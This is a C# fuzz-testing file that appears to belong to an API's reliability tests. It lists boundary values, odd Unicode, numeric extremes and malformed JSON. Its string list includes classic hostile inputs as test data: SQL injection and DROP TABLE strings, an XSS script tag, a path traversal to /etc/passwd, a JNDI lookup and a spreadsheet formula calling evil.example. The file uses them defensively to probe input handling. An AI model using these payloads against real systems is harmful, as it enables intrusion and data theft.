using System.Globalization;
using System.Text;

namespace Collaboration.Api.Tests.Reliability.Fuzz;

/// <summary>The odd values the fuzzer draws from: boundaries, huge and odd Unicode strings, injection strings.</summary>
public static class FuzzValues
{
    public static readonly string[] Strings =
    [
        "",
        " ",
        "\t\r\n",
        new string('长', 20_000),
        new string('x', 100_000),
        "\u0000",
        "a\u0000b",
        "\u200b\u200c\u200d\ufeff",
        "\u202eevil\u202c",
        "👩‍👩‍👧‍👦🏳️‍🌈",
        "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǫ̗̻",
        "\ud83d",
        "𠜎𠜱𠝹𠱓",
        "' OR '1'='1' --",
        "'; DROP TABLE events; --",
        "\" ; SELECT * FROM person_keys; --",
        "<script>alert(1)</script>",
        "=HYPERLINK(\"http://evil.example\")",
        "../../../../etc/passwd",
        "%00%2e%2e%2f",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "\\u0000",
        "null",
        "NaN",
        "-0",
        "1e309",
        "2024-02-30",
        "0001-01-01T00:00:00Z",
        "9999-12-31T23:59:59.9999999+14:00",
        "00000000-0000-0000-0000-000000000000",
        "ffffffff-ffff-ffff-ffff-ffffffffffff",
    ];

    public static readonly string[] Numbers =
    [
        "0", "-1", "-0", "1", "0.5", "-0.0001", "100", "100.0000001", "101", "2147483647", "2147483648", "-2147483649",
        "9223372036854775807", "9223372036854775808", "79228162514264337593543950335", "79228162514264337593543950336",
        "1e308", "1e-400", "123456789012345678901234567890.5",
    ];

    /// <summary>JSON texts that are not the body the operation wants: broken, the wrong shape, or hostile.</summary>
    public static readonly string[] Texts =
    [
        "{",
        "}",
        "{\"a\":",
        "[]",
        "null",
        "true",
        "\"text\"",
        "42",
        "{\"a\":1,\"a\":2}",
        "{'single': 'quotes'}",
        "{\"trailing\": 1,}",
        "/* comment */ {}",
        new string('[', 5_000) + new string(']', 5_000),
        string.Concat(Enumerable.Repeat("{\"a\":", 2_000)) + "1" + new string('}', 2_000),
        "\"\\ud800\"",
    ];

    /// <summary>Bytes that are not UTF-8.</summary>
    public static readonly byte[] NotUtf8 = [0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc3, 0x28, 0x22, 0x7d];

    public static T Pick<T>(this Random random, IReadOnlyList<T> values) => values[random.Next(values.Count)];

    /// <summary>One of <see cref="Strings"/>, cut to <paramref name="max"/> characters (URLs and headers have limits of their own).</summary>
    public static string PickString(this Random random, int max)
    {
        var value = random.Pick(Strings);
        return value.Length <= max ? value : value[..max];
    }

    /// <summary>Percent-encoded; a lone surrogate (which has no UTF-8 form) goes as the bytes a careless client would send.</summary>
    public static string Escape(string value)
    {
        try
        {
            return Uri.EscapeDataString(value);
        }
        catch (UriFormatException)
        {
            return "%ED%A0%BD";
        }
    }

    public static string Json(string value) => System.Text.Json.JsonSerializer.Serialize(value);

    public static string Date(DateOnly date) => date.ToString("yyyy-MM-dd", CultureInfo.InvariantCulture);

    public static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);
}
